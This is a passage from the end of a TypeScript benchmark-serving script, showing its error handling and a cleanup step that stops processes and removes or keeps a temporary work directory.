  console.error(`bench:serve failed: ${(error as Error).stack ?? error}`);
  process.exitCode = 1;
} finally {
  killAll();
  if (!values.keep) rmSync(work, { recursive: true, force: true });
  else console.log(`temp files kept: ${work}`);
}
